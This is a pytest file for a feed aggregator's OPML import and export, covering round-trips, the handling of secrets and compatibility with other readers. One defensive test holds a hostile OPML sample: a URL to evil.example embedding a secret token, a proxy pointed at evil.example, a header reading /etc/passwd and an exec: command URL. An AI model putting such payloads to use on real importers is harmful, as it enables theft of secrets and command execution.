"""A configuration goes out as OPML and comes in elsewhere: it means the same there."""

from __future__ import annotations

import json
import shutil
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner, Result
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from lxml import etree

from aggregator.cli import main
from aggregator.config import load
from aggregator.model.errors import ConfigError
from aggregator.model.settings import Configuration

ROOT = Path(__file__).parents[2]
ENVIRONMENT = {"FEED_TOKEN": "known-to-us-alone", "HOME": "/nowhere"}


def run(file: Path, *arguments: str, given: str | None = None) -> Result:
    return CliRunner(env=ENVIRONMENT).invoke(main, ["-c", str(file), *arguments], input=given)


def followed(configuration: Configuration) -> tuple[object, ...]:
    """All that a list can carry."""
    sources = [replace(source, keep_original=True, secrets=()) for source in configuration.sources]
    return configuration.categories, sources, configuration.article_rules


def taken_elsewhere(file: Path, before: str = "", *options: str) -> tuple[Path, Result]:
    """Out of one file and into another one beside it."""
    out, other = file.with_name("out.opml"), file.with_name("other.yaml")
    other.write_text(before, "utf-8")
    exported = run(file, "export", "opml", str(out))
    assert exported.exit_code == 0, exported.output
    assert ENVIRONMENT["FEED_TOKEN"] not in out.read_text("utf-8")
    return other, run(other, "import", "opml", *options, str(out))


def test_every_key_that_there_is_survives(tmp_path: Path) -> None:
    shutil.copytree(ROOT / "examples", tmp_path, dirs_exist_ok=True)
    file = tmp_path / "full.yaml"
    machine = "polling: {allow_exec: true}\nserver: {access: {tokens: {home: wDk1vVbq0sO2mTtPqk3zJX2c}}}\n"
    file.write_text(file.read_text("utf-8").replace('users: {ann: "a long password"}', ""), "utf-8")
    other, result = taken_elsewhere(file, machine, "--trusted")
    assert (result.stderr, result.stdout) == ("", "11 sources added; 0 passed over\n")
    assert followed(load(other, ENVIRONMENT)) == followed(load(file, ENVIRONMENT))
    assert "${FEED_TOKEN}" in other.read_text("utf-8")


def test_to_import_what_came_from_here_changes_nothing_and_says_so(tmp_path: Path) -> None:
    shutil.copytree(ROOT / "examples", tmp_path, dirs_exist_ok=True)
    file = tmp_path / "full.yaml"
    before = file.read_bytes()
    run(file, "export", "opml", str(tmp_path / "out.opml"))
    again = run(file, "import", "opml", "--trusted", str(tmp_path / "out.opml"))
    assert again.stdout == "0 sources added; 11 passed over: nothing to do, all of them are followed already\n"
    assert [each for each in again.stderr.splitlines() if "is followed already" not in each] == []
    assert file.read_bytes() == before


# ------------------------------------------------------------------------------------------------ any configuration

TEXT = st.text(st.characters(codec="utf-8", exclude_categories=("Cc", "Cs")), min_size=1, max_size=12)
NAME = TEXT.map(lambda text: text.strip().lstrip("._").strip("/\\")).filter(lambda text: text and text.isprintable())
PATTERN = st.sampled_from(["广告", "spon(s|z)or", "a&b<c", 'say "no"', "it's", "$${x}", "50%", "#1", "x: y", "- z"])
DURATION = st.sampled_from(["15m", "2h", "90s", "1d"])
TEXTS = st.lists(st.fixed_dictionaries({"text": PATTERN}), min_size=1, max_size=2)
RULE = st.one_of(
    st.fixed_dictionaries({"drop": st.fixed_dictionaries({"title": PATTERN})}),
    st.fixed_dictionaries({"keep": st.fixed_dictionaries({"any": TEXTS})}),
    st.just({"limit": "10/day"}),
    st.just({"set": {"thumbnail": "", "when": {"age": "> 30d"}}}),
)  # fmt: skip
SOURCE_OR_CATEGORY: dict[str, st.SearchStrategy[Any]] = {
    "every": st.one_of(DURATION, st.just("auto")),
    "remove": st.lists(st.sampled_from([".ad", "div > p", "#x", "a[href*='&']"]), min_size=1, max_size=3),
    "clean": st.sampled_from(["full", "minimal"]),
    "full_text": st.booleans(),
    "content": st.just("article, .story > p"),
    "headers": st.dictionaries(st.sampled_from(["Accept-Language", "X-A"]), st.sampled_from(["zh", "a: b", "1"])),
    "timeout": st.sampled_from(["10s", "1m"]),
    "max_size": st.just("2MB"),
    "rate_limit": st.sampled_from(["host", "feed"]),
    "user_agent": st.just('reader/1 (it\'s "ours"; & more)'),
    "proxy": st.just("none"),
    "language": st.sampled_from(["zh-TW", "en"]),
    "max_new": st.integers(1, 50),
    "time_zone": st.just("Asia/Taipei"),
    "rules": st.lists(RULE, min_size=1, max_size=2, unique_by=str),
    "enabled": st.booleans(),
}
OF_CATEGORY: dict[str, st.SearchStrategy[Any]] = {
    "title": NAME,
    "slug": st.sampled_from(["one", "two", "三", "four/five", "6", "7 8", "9"]),
    "merge": st.sampled_from(["off", "url", "text"]),
    "also_in": st.sampled_from(["body", "links"]),
    "images": st.sampled_from(["original", "proxy", "none"]),
    "access": st.just("public"),
}


@st.composite
def configurations(draw: st.DrawFn) -> dict[str, Any]:
    hosts = iter(range(1000))

    def source() -> object:
        url = f"https://h{next(hosts)}.example/feed?x=1&y=%E4%B8%AD"
        if draw(st.booleans()):
            return url
        name = {"name": draw(NAME)} if draw(st.booleans()) else {}
        return {"url": url, **name, **draw(st.fixed_dictionaries({}, optional=SOURCE_OR_CATEGORY))}

    def category() -> dict[str, Any]:
        own = draw(st.fixed_dictionaries({}, optional={**SOURCE_OR_CATEGORY, **OF_CATEGORY}))
        return {**own, "sources": [source() for _ in range(draw(st.integers(0, 3)))]}

    keys = draw(
        st.lists(
            st.one_of(NAME, st.sampled_from(["a", "a/b", "a/b/c", "d/e", "d"])), min_size=1, max_size=4, unique=True
        )
    )
    shared = draw(st.fixed_dictionaries({}, optional={
        "defaults": st.fixed_dictionaries({}, optional=SOURCE_OR_CATEGORY),
        "publish": st.fixed_dictionaries({}, optional={"merge": st.just("url"), "max_new": st.integers(1, 9)}),
        "polling": st.fixed_dictionaries({}, optional={"every": DURATION, "timeout": st.just("9s")}),
        "rules": st.lists(RULE, min_size=1, max_size=2, unique_by=str),
    }))  # fmt: skip
    last = {"last of all": {"sources": [source()]}}
    return {**shared, "categories": {**{key: category() for key in keys}, **last}}


@given(data=configurations())
@settings(max_examples=40, deadline=None, suppress_health_check=[*HealthCheck])
def test_whatever_is_followed_is_followed_elsewhere_with_all_that_was_said_of_it(
    data: dict[str, Any], tmp_path_factory: pytest.TempPathFactory
) -> None:
    folder = tmp_path_factory.mktemp("taken")
    file = folder / "config.yaml"
    file.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), "utf-8")
    try:
        before = load(file, ENVIRONMENT)
    except ConfigError:
        assume(False)
    other, result = taken_elsewhere(file)
    assert result.exit_code == 0, result.output
    assert followed(load(other, ENVIRONMENT)) == followed(before), result.output
    again = run(file, "import", "opml", str(folder / "out.opml"))
    assert "0 sources added" in again.stdout
    assert "keeps its own settings" not in again.stderr


# ------------------------------------------------------------------------------------------------ secrets

SECRETS = """
publish: {base_url: http://127.0.0.1:8080/}
polling: {proxy: "http://me:proxy-pass@proxy.example:3128"}
categories:
  open:
    headers: {X-Api-Key: literal-key, Accept-Language: zh}
    sources:
      - {name: A, url: "https://ann:pass-word@a.example/feed?x=1&token=literal-token",
         headers: {Authorization: Bearer literal-bearer, Cookie: "${FEED_TOKEN}", X-Plain: "1"}}
      - "https://b.example/${FEED_TOKEN}/feed"
  closed:
    access: {tokens: {bob: literal-token-of-bob}, users: {ann: "literal password"}}
    sources: [https://c.example/]
"""
LITERAL = ("literal", "pass-word", "proxy-pass")


def test_secrets_of_the_file_stay_at_home_and_are_named(tmp_path: Path) -> None:
    file, out = tmp_path / "config.yaml", tmp_path / "out.opml"
    file.write_text(SECRETS)
    result = run(file, "export", "opml", str(out))
    exported = out.read_text()
    assert not [each for each in LITERAL if each in exported + result.output]
    assert 'xmlUrl="https://a.example/feed?x=1"' in exported
    assert "https://b.example/${FEED_TOKEN}/feed" in exported
    for place in ("open/A: headers.Authorization", "open/A: url", "open: headers.X-Api-Key", "polling.proxy"):
        assert place in result.stderr
    assert "closed: access.tokens.bob; closed: access.users.ann" in result.stderr
    assert "--with-secrets" in result.stderr


def test_all_goes_out_where_the_owner_says_so_and_nobody_else_may_read_the_file(tmp_path: Path) -> None:
    file, out, other = tmp_path / "config.yaml", tmp_path / "out.opml", tmp_path / "other.yaml"
    file.write_text(SECRETS)
    other.write_text("")
    result = run(file, "export", "opml", "--with-secrets", str(out))
    assert result.stderr == "3 sources in " + str(out) + "\n"
    assert out.stat().st_mode & 0o777 == 0o600
    assert run(other, "import", "opml", "--trusted", str(out)).exit_code == 0
    assert followed(load(other, ENVIRONMENT)) == followed(load(file, ENVIRONMENT))


def test_a_protected_category_is_protected_elsewhere_though_its_tokens_stay_at_home(tmp_path: Path) -> None:
    file, other = tmp_path / "config.yaml", tmp_path / "other.yaml"
    file.write_text(SECRETS)
    other, result = taken_elsewhere(file)
    access = yaml.safe_load(other.read_text())["categories"]["closed"]["access"]
    assert list(access["tokens"]) == ["bob"]
    assert len(access["tokens"]["bob"]) > 20
    assert access["tokens"]["bob"] != "literal-token-of-bob"
    assert "bob gets a new token" in result.stderr
    [closed] = [each for each in load(other, ENVIRONMENT).categories if each.path == ("closed",)]
    assert closed.access is not None


def test_what_stayed_at_home_is_told_where_it_is_missing_and_at_home_nothing_changes(tmp_path: Path) -> None:
    file = tmp_path / "config.yaml"
    file.write_text(SECRETS)
    _, result = taken_elsewhere(file)
    assert "https://a.example/feed?x=1: the secret of headers.Authorization, url is not in the list" in result.stderr
    again = run(file, "import", "opml", "--trusted", str(tmp_path / "out.opml"))
    assert "0 sources added; 3 passed over: nothing to do" in again.stdout
    assert file.read_text() == SECRETS


def test_a_list_takes_nothing_of_ours_unless_its_owner_is_ours(tmp_path: Path) -> None:
    hostile = (
        '<opml xmlns:aggregator="urn:aggregator:opml"><head><aggregator:settings>{"polling": {"proxy": '
        '"http://evil.example:1"}}</aggregator:settings></head><body>'
        '<outline text="A" xmlUrl="https://evil.example/${FEED_TOKEN}"/>'
        '<outline text="B" aggregator:name="${FEED_TOKEN}" xmlUrl="https://b.example/" aggregator:settings=\''
        '{"headers": {"X": "${file:/etc/passwd}"}, "proxy": "http://evil.example:1", "every": "15m"}\'/>'
        '<outline text="C" xmlUrl="exec:id"/></body></opml>'
    )
    file = tmp_path / "config.yaml"
    file.write_text("polling: {allow_exec: true}\ncategories: {}\n")
    result = run(file, "import", "opml", "-", given=hostile)
    [source] = load(file, ENVIRONMENT).sources
    assert (source.url, source.headers, source.proxy, source.name) == ("https://b.example/", (), None, "b.example")
    assert "${" not in file.read_text()
    assert "evil" not in file.read_text()
    assert result.stderr.count("--trusted") == 6


def test_files_of_this_machine_come_from_a_list_that_lies_on_it_and_commands_where_they_are_allowed(
    tmp_path: Path,
) -> None:
    file = tmp_path / "config.yaml"
    file.write_text("categories: {}\n")
    outlines = '<outline text="F" xmlUrl="file:///srv/feed.xml"/><outline text="E" xmlUrl="exec:mine"/>'
    listed = f"<opml><body>{outlines}</body></opml>"
    result = run(file, "import", "opml", "--trusted", "-", given=listed)
    assert "commands are off here" in result.stderr
    assert [source.url for source in load(file, {}).sources] == ["file:///srv/feed.xml"]


# ------------------------------------------------------------------------------------------------ other programs


def test_other_programs_see_plain_outlines(tmp_path: Path) -> None:
    file = tmp_path / "config.yaml"
    file.write_text(SECRETS)
    root = etree.fromstring(run(file, "export", "opml").stdout.encode())
    plain = [
        {key: value for key, value in each.attrib.items() if not str(key).startswith("{")}
        for each in root.iterfind("body/outline/outline")
    ]
    assert plain[0] == {"type": "rss", "text": "A", "title": "A", "xmlUrl": "https://a.example/feed?x=1"}
    assert [each.get("text") for each in root.iterfind("body/outline")] == ["open", "closed"]


@pytest.mark.parametrize(
    ("attributes", "says"),
    [
        ('f:ttl="3600"', {"every": "1h"}),
        ('f:ttl="900" f:priority="hidden"', {"every": "15m"}),
        ('f:ttl="-900"', {"enabled": False}),
        ('f:ttl="0"', {}),
        ('f:CURLOPT_USERAGENT="reader/2"', {"user_agent": "reader/2"}),
        ('f:CURLOPT_HTTPHEADER="X-A: 1&#10;X-B: 2"', {"headers": {"X-A": "1", "X-B": "2"}}),
        ('m:crawler="true" m:scraperRules="#main"', {"full_text": True, "content": "#main"}),
        ('m:scraperRules="#main"', {}),
        ('m:disabled="true"', {"enabled": False}),
        ("m:rewriteRules='remove(\".ad\"),add_image_title'", {"remove": [".ad"]}),
        ('m:userAgent="reader/${HOME}"', {"user_agent": "reader/$${HOME}"}),
    ],
)
def test_what_freshrss_and_miniflux_say_of_a_feed(tmp_path: Path, attributes: str, says: dict[str, object]) -> None:
    file = tmp_path / "config.yaml"
    file.write_text("")
    listed = (
        '<opml xmlns:f="https://freshrss.org/opml" xmlns:m="https://miniflux.app/opml"><body>'
        f'<outline text="A" xmlUrl="https://a.example/" {attributes}/></body></opml>'
    )
    assert run(file, "import", "opml", "-", given=listed).exit_code == 0
    [source] = yaml.safe_load(file.read_text())["categories"]["imported"]["sources"]
    assert source == {"name": "A", "url": "https://a.example/", **says}


def test_what_others_do_and_we_cannot_is_told(tmp_path: Path) -> None:
    file = tmp_path / "config.yaml"
    file.write_text("")
    listed = (
        '<opml xmlns:f="https://freshrss.org/opml"><body><outline text="A" xmlUrl="https://a.example/" '
        'f:filtersActionRead="intitle:x" filtercmd="tool --all" f:CURLOPT_PROXY="p.example:80"/></body></opml>'
    )
    result = run(file, "import", "opml", "-", given=listed)
    assert "filtersActionRead is not taken over: intitle:x" in result.stderr
    assert "filtercmd is a program, and is not taken over: tool --all" in result.stderr
    assert "proxy: http://p.example:80 is left out" in result.stderr


BROKEN = {
    "Latin-1 that says nothing": ('<opml><body><outline text="Café" xmlUrl="https://a.example/"/>', "latin-1", "Café"),
    "Latin-1 that says UTF-8": (
        '<?xml version="1.0" encoding="UTF-8"?><opml><body><outline text="Café" xmlUrl="https://a.example/"/>',
        "latin-1",
        "Café",
    ),
    "UTF-16": ('<opml><body><outline text="名" xmlUrl="https://a.example/"/></body></opml>', "utf-16", "名"),
    "no head and no body": ('<opml><outline text="A" xmlUrl="https://a.example/"/></opml>', "utf-8", "A"),
    "no opml": ('<outline text="A" xmlUrl="https://a.example/"/>', "utf-8", "A"),
    "capitals": ('<OPML><BODY><OUTLINE TEXT="A" XMLURL="https://a.example/"/></BODY></OPML>', "utf-8", "A"),
    "a bare &": ('<opml><body><outline text="A & B" xmlUrl="https://a.example/"/></body></opml>', "utf-8", "A & B"),
    "names of HTML": ('<opml><body><outline text="&eacute;&nbsp;&amp;" xmlUrl="https://a.example/"/>', "utf-8", "é &"),
    "open tags": ('<opml><body><outline text="A" xmlUrl="https://a.example/"><outline text="x">', "utf-8", "A"),
    "a namespace of its own": (
        '<opml xmlns="urn:x"><body><outline text="A" xmlUrl="https://a.example/"/></body></opml>', "utf-8", "A",
    ),
    "a byte order mark": ('\ufeff\n <opml><body><outline text="A" xmlUrl="https://a.example/"/>', "utf-8", "A"),
    "a feed within a feed": (
        '<opml><body><outline text="A" xmlUrl="https://a.example/"><outline text="A" xmlUrl="https://a.example/"/>'
        "</outline></body></opml>",
        "utf-8",
        "A",
    ),
}  # fmt: skip


@pytest.mark.parametrize("fault", BROKEN)
def test_a_broken_list_is_read_as_its_writer_meant_it(tmp_path: Path, fault: str) -> None:
    text, charset, name = BROKEN[fault]
    file, list_ = tmp_path / "config.yaml", tmp_path / "list.opml"
    file.write_text("")
    list_.write_bytes(text.encode(charset))
    result = run(file, "import", "opml", str(list_))
    assert "1 source added" in result.stdout, result.output
    [source] = yaml.safe_load(file.read_text("utf-8"))["categories"]["imported"]["sources"]
    assert source == {"name": name, "url": "https://a.example/"}


def test_an_address_with_bare_ampersands_keeps_all_of_its_parameters(tmp_path: Path) -> None:
    file = tmp_path / "config.yaml"
    file.write_text("")
    listed = '<opml><body><outline text="A" xmlUrl="https://a.example/?a=1&b=2&copy=3&amp;d=4"/></body></opml>'
    run(file, "import", "opml", "-", given=listed)
    assert load(file, {}).sources[0].url == "https://a.example/?a=1&b=2&copy=3&d=4"


def test_programs_read_what_an_import_did(tmp_path: Path) -> None:
    file = tmp_path / "config.yaml"
    file.write_text("categories: {a: {sources: [https://a.example/]}}\n")
    listed = "https://a.example/\nhttps://b.example/feed tech\nnothing\n"
    dry = json.loads(run(file, "import", "opml", "--json", "--dry-run", "-", given=listed).stdout)
    assert dry["written"] is False
    assert "b.example" not in file.read_text()
    told = json.loads(run(file, "import", "opml", "--json", "-", given=listed).stdout)
    assert told["added"] == [{"name": None, "url": "https://b.example/feed", "category": "tech"}]
    assert (told["followed"], told["written"]) == (1, True)
    assert [each["line"] for each in told["passed_over"]] == [1, 3]
    assert told["difference"] == dry["difference"]
